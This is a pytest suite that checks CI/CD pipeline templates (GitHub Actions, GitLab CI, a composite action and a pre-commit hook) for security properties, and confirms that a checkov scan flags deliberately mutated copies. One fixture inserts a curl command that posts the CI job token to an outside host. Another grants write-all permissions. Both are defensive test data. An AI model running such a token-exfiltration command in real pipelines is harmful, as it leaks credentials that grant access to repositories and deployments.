"""The CI/CD templates (pipelines/, action.yml, .pre-commit-hooks.yaml): their structure, and the gate on them.

Each workflow is parsed with PyYAML and its security properties asserted: the gate runs before any
deploy, deploy jobs run in an environment one at a time per stack, ``id-token: write`` only where
OIDC is used, every third-party action pinned to a commit, least-privilege permissions, no secret
or input interpolated into a shell script. Then the templates go through sahab's own checkov scan
(the one ``sahab gate`` runs on a project's ``pipelines/``) and must come out clean, beside a
mutated copy that must not.
"""
from __future__ import annotations

import re
import shutil
from pathlib import Path
from typing import Any, Dict, Iterator, List, Tuple

import pytest
import yaml

from sahab.gate.checkov.engine import scan, to_findings
from sahab.gate.checkov.manifests import build_inputs
from sahab.tools.checkov import checkov_executable

REPO = Path(__file__).resolve().parents[1]
GITHUB = REPO / "pipelines" / "github"
GITLAB = REPO / "pipelines" / "gitlab" / "sahab.gitlab-ci.yml"
PINNED = re.compile(r"^[A-Za-z0-9_.-]+/[A-Za-z0-9_./-]+@[0-9a-f]{40}$")
OIDC_ACTION = "aws-actions/configure-aws-credentials@"
# Reusable workflows that take GitHub's OIDC token: a caller must grant id-token to them, and only to them.
OIDC_WORKFLOWS = ("./.github/workflows/sahab-deploy.yml", "./.github/workflows/sahab-drift.yml",
                  "./.github/workflows/sahab-ml-pipeline.yml")


def _load(path: Path) -> Dict[str, Any]:
    data = yaml.safe_load(path.read_text())
    assert isinstance(data, dict), path
    return data


def _workflows() -> List[Path]:
    return sorted(GITHUB.rglob("*.yml"))


def _on(workflow: Dict[str, Any]) -> Dict[str, Any]:
    return workflow.get("on", workflow.get(True))  # PyYAML reads a bare `on` key as True


def _uses(path: Path) -> Iterator[Tuple[str, str]]:
    """(where, uses) of every step and reusable-workflow call in a workflow or composite action."""
    data = _load(path)
    for name, job in (data.get("jobs") or {}).items():
        if "uses" in job:
            yield name, job["uses"]
        for step in job.get("steps") or []:
            if "uses" in step:
                yield name, step["uses"]
    for step in (data.get("runs") or {}).get("steps") or []:
        if "uses" in step:
            yield "runs", step["uses"]


def _steps_using(job: Dict[str, Any], action: str) -> List[Dict[str, Any]]:
    return [s for s in job.get("steps") or [] if str(s.get("uses", "")).startswith(action)]


def _runs_gate(job: Dict[str, Any]) -> bool:
    return any("sahab gate" in str(step.get("run", "")) for step in job.get("steps") or [])


def test_every_workflow_is_found_and_has_minimal_top_level_permissions():
    names = {p.relative_to(GITHUB).as_posix() for p in _workflows()}
    assert names == {"pr-gate.yml", "deploy.yml", "drift.yml", "ml-pipeline.yml", "examples/promote.yml",
                     "examples/pull-request.yml", "examples/drift-schedule.yml", "examples/ml-retrain.yml"}
    for path in _workflows():
        assert _load(path)["permissions"] == {}, path


@pytest.mark.parametrize("path", [*_workflows(), REPO / "action.yml"], ids=lambda p: p.name)
def test_third_party_actions_are_pinned_to_a_commit_with_its_version(path):
    uses = list(_uses(path))
    assert uses, path
    text = path.read_text()
    for where, ref in uses:
        if ref.startswith("./"):
            assert ref in OIDC_WORKFLOWS + ("./.github/workflows/sahab-pr-gate.yml",), (path, where, ref)
            continue
        assert PINNED.match(ref), "%s (%s): %r is not pinned to a 40-hex commit" % (path.name, where, ref)
        assert re.search(re.escape(ref) + r"\s+# v\d+\.\d+\.\d+\n", text), "%s: %s has no version comment" % (path, ref)


@pytest.mark.parametrize("path", _workflows(), ids=lambda p: p.relative_to(GITHUB).as_posix())
def test_id_token_write_only_in_jobs_that_use_oidc(path):
    for name, job in _load(path)["jobs"].items():
        permissions = job.get("permissions")
        assert isinstance(permissions, dict), "%s: job %s has no explicit permissions" % (path.name, name)
        assert "write-all" not in str(permissions) and set(permissions.values()) <= {"read", "write"}
        oidc = bool(_steps_using(job, OIDC_ACTION)) or job.get("uses") in OIDC_WORKFLOWS
        assert (permissions.get("id-token") == "write") == oidc, "%s: job %s" % (path.name, name)
        writes = {k for k, v in permissions.items() if v == "write"}
        allowed = {"id-token"} if oidc else set()
        if _steps_using(job, "github/codeql-action/upload-sarif@") or job.get("uses", "").endswith("sahab-pr-gate.yml"):
            allowed.add("security-events")
        assert writes <= allowed, "%s: job %s writes %s" % (path.name, name, writes - allowed)


def test_no_secret_or_input_is_interpolated_into_a_script():
    """Values reach shell scripts through env only, so none can inject a command, and no step echoes a secret."""
    scripts = []
    for path in [*_workflows(), REPO / "action.yml"]:
        data = _load(path)
        jobs = list((data.get("jobs") or {}).values()) + [data.get("runs") or {}]
        scripts += [(path.name, str(step["run"])) for job in jobs for step in job.get("steps") or [] if "run" in step]
    assert len(scripts) > 10
    for name, script in scripts:
        assert not re.search(r"\$\{\{\s*(secrets|inputs|github\.event|matrix|vars)\b", script), (name, script)
        assert "PULUMI_ACCESS_TOKEN" not in script and "PASSPHRASE" not in script, (name, script)


def test_pr_gate_gates_every_stack_uploads_sarif_and_writes_the_summary():
    workflow = _load(GITHUB / "pr-gate.yml")
    inputs = _on(workflow)["workflow_call"]["inputs"]
    assert {"stacks", "python-version", "working-directory", "sahab-package"} <= set(inputs)
    job = workflow["jobs"]["gate"]
    assert job["strategy"]["matrix"]["stack"] == "${{ fromJSON(inputs.stacks) }}"
    (gate,) = [s for s in job["steps"] if "sahab gate" in str(s.get("run", ""))]
    assert '--stack "$STACK"' in gate["run"] and gate["env"]["STACK"] == "${{ matrix.stack }}"
    assert "--format sarif --out \"$GITHUB_WORKSPACE/.sahab-reports/sahab.sarif\"" in gate["run"]
    assert "--format markdown --out \"$GITHUB_STEP_SUMMARY\"" in gate["run"]
    assert "|| " not in gate["run"] and "continue-on-error" not in gate  # sahab's exit code fails the job
    (upload,) = _steps_using(job, "github/codeql-action/upload-sarif@")
    assert upload["with"]["sarif_file"] == ".sahab-reports/sahab.sarif"
    assert "${{ matrix.stack }}" in upload["with"]["category"] and "!cancelled()" in upload["if"]
    assert job["steps"].index(gate) < job["steps"].index(upload)
    install = next(s for s in job["steps"] if "pip\" install" in str(s.get("run", "")))
    assert install["env"]["SAHAB_PACKAGE"] == "${{ inputs.sahab-package }}"
    assert any(s.get("run") == "sahab setup" for s in job["steps"])


def test_deploy_runs_after_the_gate_in_an_environment_with_the_crossguard_pack():
    workflow = _load(GITHUB / "deploy.yml")
    jobs = workflow["jobs"]
    assert _runs_gate(jobs["gate"]) and jobs["deploy"]["needs"] == "gate" and jobs["verify"]["needs"] == "deploy"
    deploy = jobs["deploy"]
    assert deploy["environment"]["name"] == "${{ inputs.environment }}"
    assert "inputs.stack" in deploy["concurrency"]["group"] and deploy["concurrency"]["cancel-in-progress"] is False
    pulumi = _steps_using(deploy, "pulumi/actions@")
    assert [s["with"]["command"] for s in pulumi] == ["preview", "up"]
    assert all(s["with"]["policyPacks"] == "${{ steps.pack.outputs.path }}" for s in pulumi)
    (pack,) = [s for s in deploy["steps"] if s.get("id") == "pack"]
    assert "$(sahab crossguard path)" in pack["run"]
    (aws,) = _steps_using(deploy, OIDC_ACTION)
    assert aws["with"]["role-to-assume"] == "${{ vars.AWS_ROLE_ARN }}"
    assert not {"aws-access-key-id", "aws-secret-access-key"} & set(aws["with"])
    steps = deploy["steps"]
    assert steps.index(pack) < steps.index(aws) < steps.index(pulumi[0]) < steps.index(pulumi[1])


def test_deploy_verifies_with_sahab_verify_on_the_stack_outputs_and_a_failure_fails_the_job():
    """After `pulumi up` the deploy job hands verifyHosts/verifyEndpoints to verify, which runs `sahab verify` by
    default; nothing there swallows its exit code, so a failed check fails the call and the next environment's `needs`."""
    workflow = _load(GITHUB / "deploy.yml")
    inputs = _on(workflow)["workflow_call"]["inputs"]
    default = inputs["verify-command"]["default"]
    assert default.startswith('sahab verify --stack "$SAHAB_STACK" --stack-outputs "$SAHAB_STACK_OUTPUTS"')
    assert "--junit" in default and "--results" in default and "required" not in inputs["verify-command"]
    deploy, verify = workflow["jobs"]["deploy"], workflow["jobs"]["verify"]
    (handover,) = [s for s in deploy["steps"] if s.get("id") == "verify-outputs"]
    assert deploy["steps"].index(handover) > deploy["steps"].index(_steps_using(deploy, "pulumi/actions@")[-1])
    assert 'pulumi stack output --json --stack "$STACK"' in handover["run"] and '("verifyHosts", "verifyEndpoints")' in handover["run"]
    assert "--show-secrets" not in handover["run"]
    assert deploy["outputs"]["verify-outputs"] == "${{ steps.verify-outputs.outputs.json }}"
    (run,) = [s for s in verify["steps"] if s.get("name") == "Post-deploy verification"]
    assert run["env"]["VERIFY_OUTPUTS"] == "${{ needs.deploy.outputs.verify-outputs }}"
    assert run["run"].rstrip().endswith('bash -euo pipefail -c "$VERIFY_COMMAND"')
    assert "continue-on-error" not in run and "||" not in run["run"] and "if" not in run
    install = next(s for s in verify["steps"] if "verify-requirements.txt" in str(s.get("run", "")))
    assert 'extra == \\"verify\\"' in install["run"]  # the extra's own pins, read from the installed metadata
    assert verify["needs"] == "deploy" and verify["runs-on"] == "${{ inputs.verify-runs-on }}"
    # the example promotion chain uses the default: sahab verify
    assert all("verify-command" not in job["with"] for job in _load(GITHUB / "examples" / "promote.yml")["jobs"].values())


# actions/upload-artifact v7.0.0: the tag's commit, read from the action's repository (docs/pipelines.md).
UPLOAD_ARTIFACT = "actions/upload-artifact@bbbca2ddaa5d8feaa63e36b76fdaad77386f024f"


def test_deploy_keeps_the_verification_junit_and_results_pass_or_fail():
    """The JUnit and result file `sahab verify` writes are the run-time evidence (`sahab gate --verify-results`):
    uploaded after the verification step even when it failed, under a name per stack, with no extra permission."""
    workflow = _load(GITHUB / "deploy.yml")
    verify = workflow["jobs"]["verify"]
    default = _on(workflow)["workflow_call"]["inputs"]["verify-command"]["default"]
    (run,) = [s for s in verify["steps"] if s.get("name") == "Post-deploy verification"]
    (upload,) = _steps_using(verify, "actions/upload-artifact@")
    assert upload["uses"] == UPLOAD_ARTIFACT and verify["steps"].index(upload) == verify["steps"].index(run) + 1
    assert upload["if"] == "${{ !cancelled() }}" and "continue-on-error" not in upload  # a failed verify is uploaded too
    assert upload["with"]["name"] == "sahab-verify-${{ inputs.stack || inputs.environment }}"
    written = re.findall(r'--(?:junit|results) "\$RUNNER_TEMP/([^"]+)"', default)
    assert written == ["verify.xml", "verify.json"]
    assert upload["with"]["path"].splitlines() == ["${{ runner.temp }}/%s" % name for name in written]
    assert verify["permissions"] == {"contents": "read"}
    assert "upload-artifact v7.0.0" in (REPO / "docs" / "pipelines.md").read_text()


def test_promotion_chains_dev_staging_prod_through_the_deploy_workflow():
    jobs = _load(GITHUB / "examples" / "promote.yml")["jobs"]
    assert {name: job.get("needs") for name, job in jobs.items()} == {"dev": None, "staging": "dev", "prod": "staging"}
    for name, job in jobs.items():
        assert job["uses"] == "./.github/workflows/sahab-deploy.yml" and job["with"]["environment"] == name


def test_drift_fails_on_any_change_and_reports_it():
    job = _load(GITHUB / "drift.yml")["jobs"]["drift"]
    (preview,) = _steps_using(job, "pulumi/actions@")
    assert preview["with"]["command"] == "preview"
    assert preview["with"]["expect-no-changes"] is True and preview["with"]["refresh"] is True
    assert preview["with"]["comment-on-summary"] is True and "environment" in job
    assert any(s.get("if") == "${{ failure() }}" and "::error" in s["run"] for s in job["steps"])
    schedule = _on(_load(GITHUB / "examples" / "drift-schedule.yml"))
    assert schedule["schedule"][0]["cron"]


ML_STAGES = ["validate-data", "train", "evaluate", "evidence", "promote-staging", "canary", "canary-result", "promote-production"]


def _needs(job: Dict[str, Any]) -> List[str]:
    needs = job.get("needs") or []
    return [needs] if isinstance(needs, str) else list(needs)


def _ancestors(jobs: Dict[str, Any], name: str) -> set:
    found: set = set()
    for parent in _needs(jobs[name]):
        found |= {parent} | _ancestors(jobs, parent)
    return found


def test_ml_pipeline_runs_its_stages_in_order_and_each_waits_for_every_earlier_one():
    jobs = _load(GITHUB / "ml-pipeline.yml")["jobs"]
    assert list(jobs) == ML_STAGES
    for index, name in enumerate(ML_STAGES):
        assert _ancestors(jobs, name) == set(ML_STAGES[:index]), name
    # the immediate predecessor is always a direct need: skipping a stage cannot go unnoticed
    assert all(ML_STAGES[i - 1] in _needs(jobs[name]) for i, name in enumerate(ML_STAGES) if i)
    assert not any("continue-on-error" in job or "if" in job for job in jobs.values())


def _promote_step(job: Dict[str, Any]) -> Dict[str, Any]:
    (step,) = [s for s in job["steps"] if "sahab promote" in str(s.get("run", ""))]
    return step


def test_ml_pipeline_promotes_to_production_only_after_the_canary_with_reviewers():
    workflow = _load(GITHUB / "ml-pipeline.yml")
    jobs, inputs = workflow["jobs"], _on(workflow)["workflow_call"]["inputs"]
    staging, production = jobs["promote-staging"], jobs["promote-production"]
    assert _promote_step(staging)["run"] == 'sahab promote "$MODEL" --version "$MODEL_VERSION" --to staging --audit-log "$AUDIT_LOG"'
    assert _promote_step(production)["run"] == (
        'sahab promote "$MODEL" --version "$MODEL_VERSION" --to production --audit-log "$AUDIT_LOG"')
    for job in (staging, production):  # the version this run trained, never one named by the caller
        assert _promote_step(job)["env"]["MODEL_VERSION"] == "${{ needs.train.outputs.version }}"
        assert job["concurrency"] == {"group": "sahab-promote-${{ github.repository }}-${{ inputs.model }}", "cancel-in-progress": False}
        (upload,) = _steps_using(job, "actions/upload-artifact@")
        assert upload["uses"] == UPLOAD_ARTIFACT and upload["if"] == "${{ !cancelled() }}"
    assert "canary-result" in _needs(production) and "canary" in _needs(jobs["canary-result"])
    assert production["environment"] == {"name": "${{ inputs.production-environment }}"} and "environment" not in staging
    assert inputs["production-environment"]["default"] == "model-production"
    assert "version" not in inputs and "model-version" not in inputs


def test_ml_pipeline_canary_is_the_serving_stack_deploy_with_the_new_version():
    workflow = _load(GITHUB / "ml-pipeline.yml")
    canary, result = workflow["jobs"]["canary"], workflow["jobs"]["canary-result"]
    assert canary["uses"] == "./.github/workflows/sahab-deploy.yml"
    assert canary["with"]["environment"] == "${{ inputs.serving-environment }}"
    assert canary["with"]["config-map"] == (
        "${{ format('{{\"{0}\":{{\"value\":\"{1}\",\"secret\":false}}}}', inputs.model-version-config, needs.train.outputs.version) }}")
    assert "verify-command" not in canary["with"]  # sahab verify, as every deploy
    deploy = _load(GITHUB / "deploy.yml")
    assert _on(deploy)["workflow_call"]["inputs"]["config-map"]["default"] == ""
    assert [s["with"]["config-map"] for s in _steps_using(deploy["jobs"]["deploy"], "pulumi/actions@")] == ["${{ inputs.config-map }}"] * 2
    (wait,) = result["steps"]
    assert wait["env"]["WANT"] == "models:/${{ inputs.model }}/${{ needs.train.outputs.version }}"
    script = wait["run"]
    assert 'Degraded) echo "::error title=Canary aborted::' in script and "exit 1" in script
    assert '[ "$uri" != "$WANT" ]' in script  # a rollout of another version is a failure, not a pass
    assert "{.status.stableRS}" in script and "{.status.currentPodHash}" in script and "{.status.observedGeneration}" in script


def test_ml_pipeline_trains_with_a_rayjob_and_takes_the_version_it_registered():
    jobs = _load(GITHUB / "ml-pipeline.yml")["jobs"]
    train = jobs["train"]
    assert train["env"]["SAHAB_PIPELINE_RUN"] == "${{ github.run_id }}-${{ github.run_attempt }}"
    scripts = "\n".join(str(s.get("run", "")) for s in train["steps"])
    assert 'job.get("kind") != "RayJob"' in scripts and 'kubectl create -f "$RUNNER_TEMP/rayjob.yaml"' in scripts
    assert "{.status.jobDeploymentStatus}" in scripts and '[ "$status" = SUCCEEDED ] && break' in scripts
    assert "tags.`sahab.pipeline.run`" in scripts and "len(found) != 1" in scripts
    assert train["outputs"]["version"] == "${{ steps.version.outputs.version }}"
    for name, job in jobs.items():  # every stage but the deploy runs on the in-cluster runners
        assert job.get("runs-on") == "${{ fromJSON(inputs.runs-on) }}" or name == "canary", name
    for name in ("validate-data", "evaluate", "evidence"):
        (command,) = [s for s in jobs[name]["steps"] if str(s.get("run", "")).startswith("bash -euo pipefail -c ")]
        assert command["env"]["MLFLOW_TRACKING_TOKEN"] == "${{ secrets.MLFLOW_TRACKING_TOKEN }}"


def test_ml_retrain_example_is_triggered_by_the_drift_alert_and_trusts_no_payload():
    workflow = _load(GITHUB / "examples" / "ml-retrain.yml")
    on = _on(workflow)
    assert on["repository_dispatch"] == {"types": ["model-drift"]} and on["workflow_dispatch"] is None
    (job,) = workflow["jobs"].values()
    assert job["uses"] == "./.github/workflows/sahab-ml-pipeline.yml"
    # The payload's model is compared with the model the file is written for, and used nowhere else:
    # another model's dispatch to this repository does not run, and no payload value reaches an input.
    assert job["if"] == "github.event_name != 'repository_dispatch' || github.event.client_payload.model == 'churn'"
    assert job["with"]["model"] == "churn"
    body = (GITHUB / "examples" / "ml-retrain.yml").read_text().split("name: retrain churn")[1]
    assert body.count("client_payload") == 1
    required = {k for k, v in _on(_load(GITHUB / "ml-pipeline.yml"))["workflow_call"]["inputs"].items() if v.get("required")}
    assert required <= set(job["with"])


def test_action_is_a_composite_that_gates_and_returns_the_exit_code():
    action = _load(REPO / "action.yml")
    assert action["runs"]["using"] == "composite"
    assert {"stack", "format", "args", "out", "project", "sahab-package", "python-version"} == set(action["inputs"])
    assert action["inputs"]["stack"]["required"] is True
    assert action["outputs"]["exit-code"]["value"] == "${{ steps.gate.outputs.exit-code }}"
    (gate,) = [s for s in action["runs"]["steps"] if s.get("id") == "gate"]
    assert gate["shell"] == "bash" and 'exit "$code"' in gate["run"] and "set -f" in gate["run"]
    assert '--stack "$STACK"' in gate["run"] and '--format "$FORMAT"' in gate["run"]


def test_pre_commit_hook_is_valid():
    hooks = yaml.safe_load((REPO / ".pre-commit-hooks.yaml").read_text())
    (hook,) = hooks
    assert hook["id"] == "sahab-gate" and hook["entry"] == "sahab gate" and hook["language"] == "python"
    assert hook["pass_filenames"] is False and {"id", "name", "entry", "language"} <= set(hook)
    assert re.search(hook["files"], "Pulumi.prod.yaml") and not re.search(hook["files"], "README.md")


def test_gitlab_template_stages_reports_and_oidc():
    ci = _load(GITLAB)
    assert ci["stages"][0] == "gate"
    for name, job in ci.items():  # an unquoted `echo "error: …"` would be a mapping, not a command
        for key in ("before_script", "script"):
            assert all(isinstance(line, str) for line in (job.get(key, []) if isinstance(job, dict) else [])), name
    gate = ci["sahab-gate"]
    script = "\n".join(gate["script"])
    assert "--format junit" in script and "--format gitlab" in script and 'exit "$status"' in script
    assert gate["artifacts"]["reports"] == {"junit": "sahab-reports/junit-*.xml",
                                            "codequality": "sahab-reports/codequality-*.json"}
    assert gate["artifacts"]["when"] == "always" and "sast" not in gate["artifacts"]["reports"]
    chain = ["sahab-gate"] + ["sahab-%s-%s" % (step, env) for env in ("dev", "staging", "prod")
                              for step in ("deploy", "verify")]
    for before, after in zip(chain, chain[1:]):
        assert ci[after]["needs"] == [before], after
    base = ci[".sahab-deploy"]
    assert "--policy-pack \"$PACK\"" in " ".join(base["script"]) and base["resource_group"] == "sahab-$SAHAB_STACK"
    for env in ("dev", "staging", "prod"):
        assert ci["sahab-deploy-%s" % env]["environment"]["name"] == env
    with_tokens = {name for name, job in ci.items() if isinstance(job, dict) and "id_tokens" in job}
    assert with_tokens == {".sahab-deploy", "sahab-drift"}
    assert "--expect-no-changes" in " ".join(ci["sahab-drift"]["script"])
    # verification: sahab verify by default, on the outputs the deploy job leaves as an artifact, JUnit reported
    assert ci["variables"]["SAHAB_VERIFY_COMMAND"].startswith(
        'sahab verify --stack "$SAHAB_STACK" --stack-outputs "$CI_PROJECT_DIR/sahab-reports/stack-outputs-$SAHAB_STACK.json"')
    assert "pulumi stack output --json" in " ".join(base["script"]) and base["artifacts"]["paths"] == ["sahab-reports/stack-outputs-*.json"]
    verify = ci[".sahab-verify"]
    assert verify["extends"] == ".sahab-install" and verify["script"][-1] == 'bash -euo pipefail -c "$SAHAB_VERIFY_COMMAND"'
    assert verify["artifacts"]["reports"] == {"junit": "sahab-reports/verify-*.xml"} and verify["artifacts"]["when"] == "always"
    assert not any("allow_failure" in job for name, job in ci.items() if isinstance(job, dict) and "verify" in name)


@pytest.fixture(scope="module")
def gated(tmp_path_factory):
    """sahab's checkov scan of the templates as a project's pipelines/, and of a mutated copy."""
    checkov_executable()  # the environment has checkov (./bootstrap); its absence is a failure, not a skip
    project = tmp_path_factory.mktemp("project")
    shutil.copytree(REPO / "pipelines", project / "pipelines", ignore=shutil.ignore_patterns("*.py", "__pycache__"))
    mutated = (GITHUB / "pr-gate.yml").read_text().replace("permissions: {}\n", "permissions: write-all\n", 1)
    assert mutated != (GITHUB / "pr-gate.yml").read_text()
    (project / "pipelines" / "mutated").mkdir()
    (project / "pipelines" / "mutated" / "pr-gate.yml").write_text(mutated)
    gitlab = GITLAB.read_text().replace("    - sahab setup\n", "    - sahab setup\n    - curl -d \"$CI_JOB_TOKEN\" https://example.com\n", 1)
    assert gitlab != GITLAB.read_text()
    (project / "pipelines" / "mutated" / "sahab.gitlab-ci.yml").write_text(gitlab)
    inputs = build_inputs({"resources": []}, project)
    outcome = scan(inputs, workers=1, use_cache=False, scratch=tmp_path_factory.mktemp("scan"))
    return inputs, outcome, to_findings(outcome, inputs)


def test_checkov_through_the_gate_passes_the_templates(gated):
    inputs, outcome, findings = gated
    frameworks = {f.source: f.framework for f in inputs.files}
    expected = {"pipelines/" + p.relative_to(REPO / "pipelines").as_posix(): "github_actions" for p in _workflows()}
    expected["pipelines/gitlab/sahab.gitlab-ci.yml"] = "gitlab_ci"
    expected["pipelines/mutated/pr-gate.yml"] = "github_actions"
    expected["pipelines/mutated/sahab.gitlab-ci.yml"] = "gitlab_ci"
    assert frameworks == expected and not inputs.unparseable and not inputs.refused
    ours = [f for f in findings if not f.urn.startswith("file:pipelines/mutated/")]
    failed = [(f.rule_id, f.urn, f.status) for f in ours if f.status != "passed"]
    assert failed == []
    assert not outcome.parse_errors


def test_checkov_through_the_gate_catches_a_mutated_template(gated):
    """The same scan judges the templates' files: one change to each kind makes checkov fail it."""
    _, _, findings = gated
    by_file = {(f.urn, f.rule_id, f.status) for f in findings if f.urn.startswith("file:pipelines/mutated/")}
    assert ("file:pipelines/mutated/pr-gate.yml", "CKV2_GHA_1", "violation") in by_file
    assert ("file:pipelines/mutated/sahab.gitlab-ci.yml", "CKV_GITLABCI_1", "violation") in by_file
